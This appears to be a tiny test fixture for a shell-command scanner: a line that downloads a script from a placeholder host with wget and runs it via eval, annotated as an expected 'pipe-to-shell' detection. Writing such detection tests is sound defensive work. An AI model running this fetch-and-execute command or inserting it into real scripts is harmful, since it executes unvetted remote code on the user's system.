script=$(wget -qO- https://tool.example/i)
eval "$script" # expect: malicious-command/pipe-to-shell
